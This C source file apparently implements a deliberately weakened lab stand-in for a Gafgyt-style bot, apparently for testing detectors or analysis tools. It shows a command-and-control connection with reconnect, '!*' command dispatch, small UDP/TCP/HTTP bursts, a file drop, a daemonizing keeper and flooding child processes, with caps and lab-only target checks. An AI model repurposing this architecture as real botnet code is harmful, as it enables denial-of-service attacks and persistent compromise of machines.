/*
 * linebot: a harmless stand-in with the shape of a Gafgyt bot, as public
 * analyses describe it: one line in, split into words, the first word chooses
 * a function. It greets with a line, answers PING, and knows a handful of
 * commands, each with a small behaviour of its own. It scans nothing, guesses
 * nothing, stays nowhere, and refuses to run outside the lab (common.h).
 *
 *   !* UDP ip port n          n datagrams (at most 8)
 *   !* TCP ip port n          n connects (at most 8), closed at once
 *   !* HTTP ip path           one GET on port 80
 *   !* RESOLVE name           one DNS question
 *   !* DROP                   writes /tmp/.linebot
 *   !* HOLD ip port seconds   a child sends a datagram a second
 *   !* STOP                   kills the children
 *   !* GETLOCALIP             answers with its address
 *   !* CLOSE                  hangs up and comes back
 *   !* CRASH                  dies of SIGSEGV; its keeper starts it again
 *
 * Any other word is read and ignored without an answer.
 */
#include <arpa/inet.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/utsname.h>
#include <sys/wait.h>

#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "common.h"

#define SERVER_NAME "c2.linebot.example"
#define SERVER_FALLBACK "198.18.13.37"
#define SERVER_PORT 23
#define CONNECT_SECONDS 5
#define RETRY_SECONDS 5
#define IDLE_SECONDS 60
#define LINE_SIZE 512
#define WORDS_MAX 10
#define CHILDREN_MAX 4
#define DROP_PATH "/tmp/.linebot"

static int serverSocket = -1;
static pid_t children[CHILDREN_MAX];

/* Sends a few datagrams, one every 50 ms. */
NOINLINE void
sendUdp(struct in_addr target, int port, int count)
{
	struct sockaddr_in to = { .sin_family = AF_INET,
		.sin_port = htons((uint16_t)port), .sin_addr = target };
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	for (int i = 0; fd != -1 && i < count; i++) {
		char text[32];
		int n = snprintf(text, sizeof text, "linebot %d", i);
		sendto(fd, text, (size_t)n, 0, (struct sockaddr *)&to,
		    sizeof to);
		usleep(50000);
	}
	if (fd != -1)
		close(fd);
}

/* Opens a few connections and closes each at once. */
NOINLINE void
sendTcp(struct in_addr target, int port, int count)
{
	for (int i = 0; i < count; i++) {
		int fd = connectTimeout(target, port, 2);
		if (fd != -1)
			close(fd);
	}
}

/* Fetches one page and reads what comes, at most 4 KiB. */
NOINLINE void
sendHttp(struct in_addr target, const char *path)
{
	char text[256], page[4096];
	int fd = connectTimeout(target, 80, 2);
	int n = snprintf(text, sizeof text,
	    "GET %.100s HTTP/1.0\r\nHost: %s\r\nUser-Agent: linebot\r\n\r\n",
	    path, inet_ntoa(target));

	if (fd == -1)
		return;
	if (sendAll(fd, text, (size_t)n) == 0 && waitReadable(fd, 3))
		n = (int)recv(fd, page, sizeof page, 0);
	close(fd);
}

/* Leaves a note in the scratch folder, as a dropper would leave a program. */
NOINLINE void
dropFile(void)
{
	static const char text[] = "linebot was here\n";
	int fd = open(DROP_PATH, O_WRONLY | O_CREAT | O_TRUNC, 0600);

	if (fd == -1)
		return;
	if (write(fd, text, sizeof text - 1) == -1)
		unlink(DROP_PATH);
	close(fd);
	chmod(DROP_PATH, 0700);
}

/* A child sends one datagram a second until its time is up or STOP comes. */
NOINLINE void
holdTarget(struct in_addr target, int port, int seconds)
{
	int i = 0;

	while (i < CHILDREN_MAX && children[i] > 0)
		i++;
	if (i == CHILDREN_MAX)
		return;
	children[i] = fork();
	if (children[i] != 0)
		return;
	close(serverSocket);
	alarm(SECONDS_MAX);
	while (seconds-- > 0) {
		sendUdp(target, port, 1);
		sleep(1);
	}
	_exit(0);
}

NOINLINE void
stopChildren(void)
{
	for (int i = 0; i < CHILDREN_MAX; i++) {
		if (children[i] > 0) {
			kill(children[i], SIGKILL);
			waitpid(children[i], NULL, 0);
		}
		children[i] = 0;
	}
}

/* Forgets children that came to their end by themselves. */
static void
reapChildren(void)
{
	for (int i = 0; i < CHILDREN_MAX; i++)
		if (children[i] > 0 && waitpid(children[i], NULL, WNOHANG) != 0)
			children[i] = 0;
}

NOINLINE void
replyLocalIp(void)
{
	struct sockaddr_in own = { 0 };
	socklen_t size = sizeof own;
	char text[64];

	getsockname(serverSocket, (struct sockaddr *)&own, &size);
	int n = snprintf(text, sizeof text, "My IP: %s\n",
	    inet_ntoa(own.sin_addr));
	sendAll(serverSocket, text, (size_t)n);
}

/* The compiler may not see that this points nowhere. */
static int *volatile nowhere;

NOINLINE void
crash(void)
{
	*nowhere = 1;
}

/*
 * The command handler: the first word chooses. Returns -1 when the connection
 * should end. A target outside the lab is ignored like an unknown word.
 */
NOINLINE int
processCmd(int argc, char *argv[])
{
	struct in_addr ip;

	if (strcmp(argv[0], "UDP") == 0) {
		if (argc >= 4 && labTarget(argv[1], &ip) == 0)
			sendUdp(ip, atoi(argv[2]),
			    labCount(argv[3], PACKETS_MAX));
	} else if (strcmp(argv[0], "TCP") == 0) {
		if (argc >= 4 && labTarget(argv[1], &ip) == 0)
			sendTcp(ip, atoi(argv[2]),
			    labCount(argv[3], PACKETS_MAX));
	} else if (strcmp(argv[0], "HTTP") == 0) {
		if (argc >= 3 && labTarget(argv[1], &ip) == 0)
			sendHttp(ip, argv[2]);
	} else if (strcmp(argv[0], "RESOLVE") == 0) {
		if (argc >= 2)
			resolveName(argv[1], &ip);
	} else if (strcmp(argv[0], "DROP") == 0) {
		dropFile();
	} else if (strcmp(argv[0], "HOLD") == 0) {
		if (argc >= 4 && labTarget(argv[1], &ip) == 0)
			holdTarget(ip, atoi(argv[2]),
			    labCount(argv[3], SECONDS_MAX));
	} else if (strcmp(argv[0], "STOP") == 0) {
		stopChildren();
	} else if (strcmp(argv[0], "GETLOCALIP") == 0) {
		replyLocalIp();
	} else if (strcmp(argv[0], "CLOSE") == 0) {
		return -1;
	} else if (strcmp(argv[0], "CRASH") == 0) {
		crash();
	}
	return 0;
}

/*
 * Reads one line byte by byte, without its end. Returns its length, or -1
 * when the server is gone or has been silent for too long.
 */
NOINLINE int
recvLine(int fd, char *buf, int size)
{
	int n = 0;

	for (;;) {
		char c;
		if (!waitReadable(fd, IDLE_SECONDS) || recv(fd, &c, 1, 0) != 1)
			return -1;
		if (c == '\n')
			break;
		if (n < size - 1)
			buf[n++] = c;
	}
	while (n > 0 && buf[n - 1] == '\r')
		n--;
	buf[n] = '\0';
	return n;
}

/* Finds the server and connects; 0 or -1. */
NOINLINE int
initConnection(void)
{
	struct in_addr server;

	if (serverSocket != -1)
		close(serverSocket);
	if (resolveName(SERVER_NAME, &server) != 0)
		inet_pton(AF_INET, SERVER_FALLBACK, &server);
	serverSocket = connectTimeout(server, SERVER_PORT, CONNECT_SECONDS);
	return serverSocket == -1 ? -1 : 0;
}

static int
greet(void)
{
	struct utsname u;
	char text[128];

	uname(&u);
	int n = snprintf(text, sizeof text, "BUILD %s\n", u.machine);
	return sendAll(serverSocket, text, (size_t)n);
}

/* Splits a line in place; returns the number of words. */
static int
splitWords(char *line, char *argv[], int max)
{
	int argc = 0;

	for (char *word = strtok(line, " "); word != NULL && argc < max;
	    word = strtok(NULL, " "))
		argv[argc++] = word;
	return argc;
}

/* One connection: lines come, commands are done, until it ends. */
static void
serve(void)
{
	char line[LINE_SIZE], *argv[WORDS_MAX];

	while (recvLine(serverSocket, line, sizeof line) != -1) {
		reapChildren();
		if (strcmp(line, "PING") == 0) {
			sendAll(serverSocket, "PONG\n", 5);
			continue;
		}
		if (line[0] != '!')
			continue;
		int argc = splitWords(line, argv, WORDS_MAX);
		if (argc >= 2 && processCmd(argc - 1, argv + 1) == -1)
			break;
	}
}

static void
bot(void)
{
	for (;;) {
		if (initConnection() == 0 && greet() == 0) {
			serve();
			sleep(1);
		} else
			sleep(RETRY_SECONDS);
	}
}

/* The keeper starts the bot again when it has crashed. */
int
main(void)
{
	labGuard("linebot");
	signal(SIGPIPE, SIG_IGN);
	daemonize();
	for (;;) {
		pid_t pid = fork();
		if (pid == 0)
			bot();
		if (pid == -1 || waitpid(pid, NULL, 0) == -1)
			return 1;
		sleep(1);
	}
}
